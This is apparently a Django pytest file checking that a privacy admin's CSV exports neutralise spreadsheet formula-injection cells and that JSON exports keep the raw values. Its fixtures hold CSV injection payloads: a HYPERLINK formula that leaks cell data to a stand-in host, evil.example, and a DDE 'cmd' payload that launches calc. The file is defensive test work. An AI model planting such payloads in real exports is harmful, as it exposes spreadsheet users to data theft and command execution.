"""CSV downloads neutralise cells a spreadsheet would run as formulas; the JSON keeps the true values."""

import csv
import json
from io import StringIO

import pytest

from accounts.tests.factories import PrivacyOfficerFactory, sign_in_verified
from customers.tests.factories import CompanyFactory, ContactFactory
from privacy.models import RequestType
from privacy.tests.factories import VerifiedRequestFactory
from privacy.tests.helpers import unzip

pytestmark = pytest.mark.django_db

BASE = "/admin/privacy/datasubjectrequest/"
COMPANY = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FIRST_NAME = "+cmd|' /C calc'!A0"
TITLE = "@SUM(A1:A9)"
LAST_NAME = "-Formula"


@pytest.fixture
def officer_client(client):
    sign_in_verified(client, PrivacyOfficerFactory())
    return client


@pytest.fixture
def attacker():
    return ContactFactory(
        company=CompanyFactory(name=COMPANY),
        first_name=FIRST_NAME,
        last_name=LAST_NAME,
        title=TITLE,
        email="hyokkaaja@evil.example",
        city="\tKalajoki",
        postal_code="\r85100",
    )


def exported_files(client, contact):
    request = VerifiedRequestFactory(request_type=RequestType.ACCESS, contacts=[contact])
    response = client.post(f"{BASE}{request.pk}/act/export/", {"email": contact.email})
    assert response["Content-Type"] == "application/zip"
    return unzip(response.content)


def test_the_export_zips_data_csv_quotes_every_formula_cell(officer_client, attacker):
    files = exported_files(officer_client, attacker)
    (row,) = csv.DictReader(StringIO(files["data.csv"]))
    assert row["company_name"] == "'" + COMPANY
    assert row["first_name"] == "'" + FIRST_NAME
    assert row["last_name"] == "'" + LAST_NAME
    assert row["title"] == "'" + TITLE
    assert row["city"] == "'\tKalajoki"
    assert row["postal_code"] == "'\r85100"
    assert row["email"] == "hyokkaaja@evil.example"  # an ordinary cell stays as it is


def test_the_export_zips_data_json_keeps_the_true_values(officer_client, attacker):
    files = exported_files(officer_client, attacker)
    (record,) = json.loads(files["data.json"])["contacts"]
    assert record["company"]["name"] == COMPANY
    personal = record["personal_data"]
    assert (personal["first_name"], personal["last_name"], personal["title"]) == (FIRST_NAME, LAST_NAME, TITLE)
    assert (personal["city"], personal["postal_code"]) == ("\tKalajoki", "\r85100")


def download_audience(client):
    # The download names its recipient first (Art. 19): the export is recorded as a disclosure to them.
    return client.post(f"{BASE}marketing-audience.csv", {"recipient": "Mainostoimisto Oy"})


def test_the_marketing_audience_download_quotes_every_formula_cell(officer_client, attacker):
    response = download_audience(officer_client)
    rows = list(csv.DictReader(StringIO(response.content.decode())))
    (row,) = [r for r in rows if r["email"] == "hyokkaaja@evil.example"]
    assert (row["first_name"], row["last_name"], row["company"]) == ("'" + FIRST_NAME, "'" + LAST_NAME, "'" + COMPANY)


def test_the_marketing_audience_download_leaves_ordinary_cells_alone(officer_client):
    ContactFactory(first_name="Maija", last_name="Meikäläinen", email="maija@kala.fi", company__name="Kala Oy")
    rows = list(csv.DictReader(StringIO(download_audience(officer_client).content.decode())))
    assert rows == [{"email": "maija@kala.fi", "first_name": "Maija", "last_name": "Meikäläinen", "company": "Kala Oy"}]
